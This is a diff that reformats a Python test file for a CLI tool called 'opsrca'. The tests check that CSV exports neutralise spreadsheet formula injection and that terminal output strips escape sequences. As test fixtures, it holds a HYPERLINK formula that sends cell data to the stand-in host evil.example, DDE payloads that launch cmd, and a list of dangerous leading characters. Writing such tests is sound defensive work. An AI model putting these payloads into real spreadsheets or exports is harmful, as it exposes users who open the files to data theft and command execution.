@@ -14,7 +14,7 @@ from opsrca.cli import app
 from opsrca.listings.samples import write_listing_samples
 
 runner = CliRunner()
-FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")"
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
 CMD = "=cmd|' /C calc'!A0"
 LINK_SHOP = '<a href="http://evil.example/">shop</a>'
 MARKUP_SHOP = "[red on white]fake alert[/]"
@@ -27,18 +27,22 @@ def _rows() -> list[dict[str, str | None]]:
     messages = [CMD, ESCAPES, "-2+3+cmd|' /C calc'!A0", HUGE, "token expired"]
     rows = []
     for i in range(40):
-        rows.append({
-            "error_id": f"7301888800000{i:05d}",
-            "shop_id": shops[i % len(shops)],
-            "shop_name": shops[i % len(shops)],
-            "region_code": "GB",
-            "api_endpoint": "+/product/202309/products" if i % 2 else "/product/202309/products",
-            "http_status": "401" if i % 5 == 4 else "400",
-            "error_code": "-1",
-            "error_message": messages[i % len(messages)],
-            "first_occurred_at": f"2026-11-02T02:{i:02d}:05Z",
-            "retry_count": "1",
-        })
+        rows.append(
+            {
+                "error_id": f"7301888800000{i:05d}",
+                "shop_id": shops[i % len(shops)],
+                "shop_name": shops[i % len(shops)],
+                "region_code": "GB",
+                "api_endpoint": "+/product/202309/products"
+                if i % 2
+                else "/product/202309/products",
+                "http_status": "401" if i % 5 == 4 else "400",
+                "error_code": "-1",
+                "error_message": messages[i % len(messages)],
+                "first_occurred_at": f"2026-11-02T02:{i:02d}:05Z",
+                "retry_count": "1",
+            }
+        )
     return rows
 
 
@@ -66,8 +70,12 @@ def _cells(text: str) -> list[str]:
 def _assert_no_live_formula(text: str) -> None:
     cells = _cells(text)
     assert cells, "empty CSV"
-    live = [c[:40] for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
-            or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
+    live = [
+        c[:40]
+        for c in cells
+        if c[:1] in ("=", "+", "@", "\t", "\r")
+        or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())
+    ]
     assert not live
 
 
@@ -77,19 +85,37 @@ def _run(db: Path, *args: str) -> str:
     return res.output
 
 
-def test_every_csv_output_neutralizes_formulas(analyzed: tuple[Path, Path, str], tmp_path: Path) -> None:
+def test_every_csv_output_neutralizes_formulas(
+    analyzed: tuple[Path, Path, str], tmp_path: Path
+) -> None:
     db, out, _ = analyzed
     outputs = {
         "summary.csv": (out / "summary.csv").read_text(encoding="utf-8"),
-        "query": _run(db, "query", "SELECT shop_id, message, error_code FROM events", "--format",
-                      "csv", "--limit", "1000"),
+        "query": _run(
+            db,
+            "query",
+            "SELECT shop_id, message, error_code FROM events",
+            "--format",
+            "csv",
+            "--limit",
+            "1000",
+        ),
         "errors stdout": _run(db, "errors", "--limit", "0", "--format", "csv"),
     }
     for name, args in {
         "export.csv": ["export", "--table", "events", "--out"],
         "errors.csv": ["errors", "--limit", "0", "--format", "csv", "-o"],
         "health.csv": ["health", "--format", "csv", "-o"],
-        "incidents.csv": ["incidents", "--format", "csv", "--min-count", "1", "--factor", "1", "-o"],
+        "incidents.csv": [
+            "incidents",
+            "--format",
+            "csv",
+            "--min-count",
+            "1",
+            "--factor",
+            "1",
+            "-o",
+        ],
     }.items():
         _run(db, *args, str(tmp_path / name))
         outputs[name] = (tmp_path / name).read_text(encoding="utf-8")
@@ -111,11 +137,14 @@ def test_classify_and_listing_outputs_neutralize_formulas(tmp_path: Path) -> Non
     samples = tmp_path / "listings"
     write_listing_samples(samples)
     listings = samples / "listings.csv"
-    listings.write_text(listings.read_text(encoding="utf-8").replace("百应-A01", "@SUM(1+1)"),
-                        encoding="utf-8")
+    listings.write_text(
+        listings.read_text(encoding="utf-8").replace("百应-A01", "@SUM(1+1)"), encoding="utf-8"
+    )
     products = samples / "products.csv"
-    products.write_text(products.read_text(encoding="utf-8").replace("KD-1003", CMD.replace("'", "")),
-                        encoding="utf-8")
+    products.write_text(
+        products.read_text(encoding="utf-8").replace("KD-1003", CMD.replace("'", "")),
+        encoding="utf-8",
+    )
     for cmd, src in (("dupes", listings), ("lint", products)):
         target = tmp_path / f"{cmd}.csv"
         res = runner.invoke(app, [cmd, str(src), "-o", str(target)])
@@ -137,14 +166,21 @@ def test_terminal_gets_no_escape_sequences(analyzed: tuple[Path, Path, str]) -> 
     # analyze shows templates: the normalizer already dropped ESC there, leaving inert text
     _assert_clean_terminal(analyze_out, sequences_gone=False)
     assert "clearscreen" in _run(db, "errors", "--limit", "0", "--format", "csv")
-    for args in (("errors", "--limit", "0"), ("health",),
-                 ("query", "SELECT shop_id, message FROM events")):
+    for args in (
+        ("errors", "--limit", "0"),
+        ("health",),
+        ("query", "SELECT shop_id, message FROM events"),
+    ):
         _assert_clean_terminal(_run(db, *args))
     shown = _run(db, "show", "730188880000000001")
-    assert "clearscreenbellc131mhiddentext" in shown.replace("\n", "").replace("│", "").replace(" ", "")
+    assert "clearscreenbellc131mhiddentext" in shown.replace("\n", "").replace("│", "").replace(
+        " ", ""
+    )
     _assert_clean_terminal(shown, sequences_gone=False)  # the template line keeps inert residue
-    for args in (("errors", "--limit", "0", "--format", "json"),
-                 ("query", "SELECT message FROM events", "--format", "csv")):
+    for args in (
+        ("errors", "--limit", "0", "--format", "json"),
+        ("query", "SELECT message FROM events", "--format", "csv"),
+    ):
         _assert_clean_terminal(_run(db, *args), sequences_gone=False)
 
 
